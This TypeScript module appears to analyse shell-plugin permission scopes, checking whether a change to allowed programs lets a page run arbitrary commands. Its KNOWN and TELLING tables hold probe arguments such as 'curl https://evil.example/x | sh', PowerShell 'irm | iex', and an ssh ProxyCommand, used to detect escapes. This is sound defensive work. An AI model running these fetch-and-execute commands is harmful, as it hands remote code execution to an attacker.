import type { ScopeEntry } from "../../../domain/ipc.ts";
import { type Language, languageOf, readable, sequenceOf } from "../../../language/automaton.ts";
import { literal } from "../../../language/literal.ts";
import { validatorExpression, wrapValidator } from "../../../language/validator.ts";
import { compareScopes, type LanguageEntry, type LanguageScope, type Reading } from "./language-scope.ts";
import { entryKey, type ScopeQuestion, type ScopeSide } from "./scope-question.ts";

/**
 * A program that the shell plugin may start. The page names it by `name`; what runs is `command` with the arguments,
 * so two entries that differ only in their name let the same thing happen.
 */
export type ProgramEntry = Readonly<{
  name: string;
  command: string;
  sidecar: boolean;
  arguments: true | readonly ProgramArgument[];
}>;

export type ProgramArgument = Readonly<{ fixed: string }> | Readonly<{ validator: string }>;

/** Reads an entry of the shell scope; undefined where the plugin would refuse it. */
export function programOf(value: unknown): ProgramEntry | undefined {
  if (typeof value !== "object" || value === null) return undefined;
  const { name, cmd, args, sidecar } = value as Readonly<Record<string, unknown>>;
  if (typeof name !== "string") return undefined;
  if (sidecar !== true && typeof cmd !== "string") return undefined;
  const list = argumentsOf(args);
  if (list === undefined) return undefined;
  return { name, command: sidecar === true ? name : String(cmd), sidecar: sidecar === true, arguments: list };
}

function argumentsOf(args: unknown): true | readonly ProgramArgument[] | undefined {
  if (args === undefined || args === null || args === false) return [];
  if (args === true) return true;
  if (!Array.isArray(args)) return undefined;
  const list = args.map(argumentOf);
  return list.every((argument) => argument !== undefined) ? list : undefined;
}

function argumentOf(item: unknown): ProgramArgument | undefined {
  if (typeof item === "string") return { fixed: item };
  if (typeof item !== "object" || item === null) return undefined;
  const validator: unknown = Reflect.get(item, "validator");
  const raw = Reflect.get(item, "raw") === true;
  return typeof validator === "string" ? { validator: wrapValidator(validator, raw) } : undefined;
}

/** Command lines, as texts: the program, then each argument, every one ended by a NUL, which no argument can hold. */
export const programQuestion: ScopeQuestion = (base, head) => {
  const { escapes, undecided } = compareScopes(programScope(base), programScope(head), programReading(head));
  // What can't be read here may be refused by Rust, and then it makes every call of its side fail.
  const lost = [...base.allow, ...base.deny, ...head.allow, ...head.deny].filter(isUnreadable).map(entryKey);
  const said = lost.map((entry) => `the entry ${entry} can't be read as a pattern`);
  return { escapes, undecided: [...new Set([...undecided, ...said])] };
};

function isUnreadable({ value }: ScopeEntry): boolean {
  const program = programOf(value);
  return program !== undefined && commandLines(program) === undefined;
}

function programScope(side: ScopeSide): LanguageScope {
  const taken = new Set<string>();
  const allow: LanguageEntry[] = [];
  for (const entry of side.allow) {
    const program = programOf(entry.value);
    // One entry that the plugin can't parse makes every call of the command fail.
    if (program === undefined) return { allow: [], deny: [] };
    // The first entry of a name counts; a later one is never looked at. Deny entries are parsed, and then ignored.
    if (taken.has(program.name)) continue;
    taken.add(program.name);
    allow.push({ entry, language: commandLines(program) });
  }
  const fails = side.deny.some(({ value }) => programOf(value) === undefined);
  return { allow: fails ? [] : allow, deny: [] };
}

const END = "\\0";
const ARGUMENTS = `(?:[^${END}]*${END})*`;

/** Undefined where a validator can't be read as regular. */
function commandLines(program: ProgramEntry): Language | undefined {
  const start = [program.sidecar ? "sidecar" : "program", literal(program.command)];
  if (program.arguments === true)
    return languageOf(`${start.map((text) => text + END).join("")}${ARGUMENTS}`);
  const list = program.arguments;
  return readable(() => sequenceOf([...start, ...list.map(argumentTexts)], END));
}

function argumentTexts(argument: ProgramArgument): string {
  return "fixed" in argument ? literal(argument.fixed) : validatorExpression(argument.validator);
}

/** Arguments that turn a known program into any program. */
const KNOWN: readonly (readonly [RegExp, string])[] = [
  [/^(?:sh|bash|zsh|dash|ksh|fish|ash)$/, "-c\0curl https://evil.example/x | sh\0"],
  [/^cmd$/i, "/C\0curl https://evil.example/x | cmd\0"],
  [/^(?:powershell|pwsh)$/i, "-Command\0irm https://evil.example/x | iex\0"],
  [/^(?:node|bun)$/, "-e\0require('child_process').exec('curl https://evil.example/x | sh')\0"],
  [/^python[\d.]*$/, "-c\0import os; os.system('curl https://evil.example/x | sh')\0"],
  [/^git$/, "-c\0alias.x=!curl https://evil.example/x | sh\0x\0"],
  [/^(?:ssh|scp|sftp)$/, "-oProxyCommand=curl https://evil.example/x | sh\0host\0"],
];

function tellingFor(command: string): string[] {
  const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
  const known = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
  return [...known, "--any-option\0any value\0", ...TELLING];
}

/** Arguments by which many a program runs another. */
const TELLING = [
  "-c\0curl https://evil.example/x | sh\0",
  "/C\0curl https://evil.example/x | cmd\0",
  "--eval\0evil()\0",
];

function programReading(head: ScopeSide): Reading {
  const programs = head.allow.flatMap(({ value }) => programOf(value) ?? []);
  return {
    universe: languageOf(ARGUMENTS),
    candidates: programs.flatMap(({ sidecar, command }) => {
      const start = `${sidecar ? "sidecar" : "program"}\0${command}\0`;
      return [
        ...tellingFor(command).map((rest) => ({ word: start + rest, sensitive: true })),
        { word: start, sensitive: false },
      ];
    }),
    show(word, entry) {
      const [kind, command = "", ...args] = word.split("\0").slice(0, -1);
      const name = programOf(entry.value)?.name ?? command;
      return {
        payload: { program: name, args, ...(kind === "sidecar" && { options: { sidecar: true } }) },
        example: [command, ...args].map(quoted).join(" "),
        runs: command,
      };
    },
  };
}

/** An argument as it is typed: people must see where one ends. */
function quoted(argument: string): string {
  return /^[^\s"'|;&<>]+$/.test(argument) ? argument : JSON.stringify(argument);
}
